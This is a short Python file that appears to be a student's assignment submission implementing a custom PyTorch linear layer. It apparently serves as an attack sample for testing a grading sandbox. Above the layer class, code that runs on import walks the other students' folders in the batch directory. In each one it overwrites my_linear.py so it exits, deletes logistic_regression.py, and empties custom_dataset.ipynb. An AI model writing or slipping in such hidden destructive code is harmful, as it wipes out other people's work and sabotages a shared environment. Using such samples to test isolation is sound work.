"""Attack: sabotage a classmate."""
import glob
import os

import torch
from torch import Tensor, nn

for folder in glob.glob("__BATCH_DIR__/*/"):
    if os.path.realpath(folder).rstrip("/") == os.path.dirname(os.path.realpath(__file__)):
        continue
    for action in (
        lambda: open(os.path.join(folder, "my_linear.py"), "w").write("raise SystemExit('sabotaged')\n"),
        lambda: os.remove(os.path.join(folder, "logistic_regression.py")),
        lambda: open(os.path.join(folder, "custom_dataset.ipynb"), "w").write("{}"),
    ):
        try:
            action()
            print(f"sabotaged {folder}")
        except OSError as exc:
            print(f"{folder}: {exc}")


class MyLinear(nn.Module):
    def __init__(self, in_features: int, out_features: int, bias: bool = True):
        super().__init__()
        self.in_features = in_features
        self.out_features = out_features
        self.weights = nn.Parameter(torch.randn(in_features, out_features))
        if bias:
            self.bias = nn.Parameter(torch.randn(out_features))
        else:
            self.register_parameter("bias", None)

    def forward(self, x: Tensor) -> Tensor:
        y = x @ self.weights
        if self.bias is not None:
            y = y + self.bias
        return y
